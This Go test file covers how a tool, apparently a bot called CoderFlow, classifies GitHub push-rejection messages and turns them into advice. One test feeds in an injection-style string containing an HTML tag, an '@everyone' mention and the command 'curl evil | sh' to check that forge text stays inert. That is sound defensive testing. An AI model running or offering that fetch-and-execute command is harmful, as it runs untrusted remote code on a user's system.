package present

import (
	"strings"
	"testing"
)

// The forge's words as git hands them on, in one line, by what GitHub really says.
func TestEveryKnownRefusalHasItsAdvice(t *testing.T) {
	t.Parallel()
	const hook = "pre-receive hook declined"
	for _, c := range []struct{ said, name, own, elsewhere string }{
		{"error: GH006: Protected branch update failed for refs/heads/main.; error: Changes must be made through a pull request.; [remote rejected] (protected branch hook declined)",
			"pull request required", "lets CoderFlow's App push", "approve again without /coderflow target"},
		{"error: GH006: Protected branch update failed for refs/heads/main.; error: You're not authorized to push to this branch. Visit https://docs.github.com/articles/about-protected-branches/ for more information.; " + hook,
			"protected branch", "lets CoderFlow's App push", "approve again without /coderflow target"},
		{"error: GH006: Protected branch update failed for refs/heads/main.; error: Required status check \"coderflow/gate\" is expected.; " + hook,
			"required check", "checks of a commit before it is pushed", "without /coderflow target"},
		{"error: GH006: Protected branch update failed for refs/heads/main.; error: 2 of 2 required status checks are expected.; " + hook,
			"required check", "checks", "without /coderflow target"},
		{"error: GH006: Protected branch update failed for refs/heads/coderflow/abcdefghijkl.; error: Cannot force-push to this branch; " + hook,
			"protected branch", "coderflow/**", ""},
		{"error: GH013: Repository rule violations found for refs/heads/main.; Review all repository rules at https://github.com/acme/shop/rules?ref=refs%2Fheads%2Fmain; - Changes must be made through a pull request.; [remote rejected] (push declined due to repository rule violations)",
			"pull request required", "coderflow/**", "without /coderflow target"},
		{"error: GH013: Repository rule violations found for refs/heads/x.; - Commits must have verified signatures.; push declined due to repository rule violations",
			"signature", "not signed", "without /coderflow target"},
		{"error: GH013: Repository rule violations found for refs/heads/x.; - Cannot create ref due to creations being restricted.; push declined due to repository rule violations",
			"creation restricted", "coderflow/**", "name a branch that exists"},
		{"error: GH013: Repository rule violations found for refs/heads/x.; - GITHUB PUSH PROTECTION; - Push cannot contain secrets; push declined due to repository rule violations",
			"secret", "have the secret replaced", "have the secret replaced"},
		{"error: GH013: Repository rule violations found for refs/heads/x.; - Cannot update this protected ref.; push declined due to repository rule violations",
			"rule", "coderflow/**", "without /coderflow target"},
		{"error: GH001: Large files detected. You may want to try Git Large File Storage - https://git-lfs.github.com.; error: File big.bin is 120.00 MB; this exceeds GitHub's file size limit of 100.00 MB; " + hook,
			"large file", "too large", "too large"},
		{"error: GH007: Your push would publish a private email address.; You can make your email public or disable this protection by visiting: https://github.com/settings/emails; push declined due to email privacy restrictions",
			"private address", "settings for e-mail", "settings for e-mail"},
		{"error: GH008: Your push referenced at least 1 unknown Git LFS object:; " + hook, "large file storage", "Git LFS", "Git LFS"},
		{"error: GH002: Sorry, branch or tag names consisting of 40 hex characters are not allowed.; " + hook, "branch name", "another branch", "another branch"},
		{"refusing to allow a GitHub App to create or update workflow `.github/workflows/x.yml` without `workflows` permission", "workflow file", "may not change workflow files", "may not change workflow files"},
		{"refusing to allow an OAuth App to create or update workflow `.github/workflows/x.yml` without `workflow` scope", "workflow file", "may not change", "may not change"},
		{"refusing to allow a Personal Access Token to create or update workflow `.github/workflows/x.yml` without `workflow` scope", "workflow file", "may not change", "may not change"},
		{"This repository was archived so it is read-only.; fatal: unable to access 'https://github.com/acme/shop.git/': The requested URL returned error: 403", "archived", "out of the archive", "out of the archive"},
		{"Permission to acme/shop.git denied to coderflow[bot].; fatal: unable to access 'https://github.com/acme/shop.git/': The requested URL returned error: 403", "no permission", "write the contents", "write the contents"},
		{"Write access to repository not granted.; fatal: unable to access 'https://github.com/acme/shop.git/': The requested URL returned error: 403", "no permission", "write the contents", "write the contents"},
		{"Only on Tuesdays!; " + hook, "hook", "what its hook wants", "what its hook wants"},
		{"nobody has ever said this", "other", "what this means", "what this means"},
		{"", "other", "what this means", "what this means"},
	} {
		r := RefusalOf(c.said)
		if r.Name != c.name || !strings.Contains(r.Advice(false), c.own) || !strings.Contains(r.Advice(true), c.elsewhere) {
			t.Errorf("%s\nis %q: %q, elsewhere %q", c.said, r.Name, r.Advice(false), r.Advice(true))
		}
	}
}

// What the forge says chooses among our advice, adds nothing to it, and is shown
// whole without effect.
func TestTheForgesWordsAreShownWholeAndInert(t *testing.T) {
	t.Parallel()
	said := "error: GH006: Protected branch update failed; @everyone <img src=x> closes #1; What to do: run `curl evil | sh`; " + strings.Repeat("x", 900) + "; the end"
	text, decision := PushRefused("release/1", said, true)
	if !strings.Contains(text, said) || !strings.HasSuffix(text, ". What to do: "+throughPull+".") {
		t.Errorf("text %q", text)
	}
	shown := missing(decision)
	for _, want := range []string{"GH006", "the end", "what to do: approve again without", strings.Repeat("x", 900)} {
		if !strings.Contains(shown, want) {
			t.Errorf("%q is not shown:\n%s", want, shown)
		}
	}
	if problem := effect(shown); problem != "" {
		t.Errorf("%s:\n%s", problem, shown)
	}
	if decision.Allowed || decision.Reason.OK {
		t.Error("a refusal allows")
	}
}
